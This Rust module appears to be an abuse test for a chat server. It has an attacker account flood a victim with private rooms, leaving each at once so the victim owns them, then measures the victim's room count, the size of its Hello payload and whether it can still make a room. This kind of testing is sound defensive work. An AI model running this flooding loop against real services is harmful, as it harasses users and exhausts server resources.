//! Private rooms that the attacker makes with the victim and leaves at once, so that the victim owns them.

use super::class::{Class, id};
use super::figure::{print, print_outcome};
use super::{ATTACKER, VICTIM, hello};
use serde_json::{Value, json};
use std::time::{Duration, Instant};

pub async fn run(host: &str, seconds: u64) -> Result<(), String> {
    let mut class = Class::of(host, &[ATTACKER, VICTIM]).await?;
    let [attacker, victim] = class.members.as_mut_slice() else {
        return Err("nobody joined".into());
    };
    let victim_id = victim.overview().await?["me"]["id"].as_i64().ok_or("no id")?;
    let (end, mut made, mut refusal) = (Instant::now() + Duration::from_secs(seconds), 0, String::new());
    while Instant::now() < end {
        let name = format!("Room {made}");
        let new = json!({"do": "new_private_room", "name": name, "topic": "", "participants": [victim_id]});
        match attacker.execute(new).await {
            Ok(done) => {
                made += 1;
                let leave = json!({"do": "leave_room", "room": id(&done, "room")?});
                while attacker.execute(leave.clone()).await.is_err() && Instant::now() < end {
                    tokio::time::sleep(Duration::from_millis(10)).await;
                }
            }
            Err(reason) => {
                refusal = reason;
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        }
    }
    print("rooms_made", made, format!("{made} in {seconds} s"));
    eprintln!("the last refusal: {refusal}");
    let overview = victim.overview().await?;
    let rooms = count(&overview["rooms"], |room| room["kind"] == "private");
    let offers = count(&overview["offers"], |_| true);
    print("rooms_of_victim", rooms, format!("{rooms}, and {offers} offers"));
    match hello::size(victim).await {
        Ok(bytes) => print("rooms_hello", bytes, format!("{} KB", bytes.div_ceil(1000))),
        Err(reason) => print("rooms_hello", u32::MAX, format!("no Hello: {reason}")),
    }
    let own = json!({"do": "new_private_room", "name": "My own", "topic": "", "participants": []});
    let own = victim.execute(own).await;
    print_outcome("rooms_own", &own, "made", "refused");
    Ok(())
}

fn count(list: &Value, which: impl Fn(&Value) -> bool) -> usize {
    list.as_array()
        .map_or(0, |list| list.iter().filter(|item| which(item)).count())
}
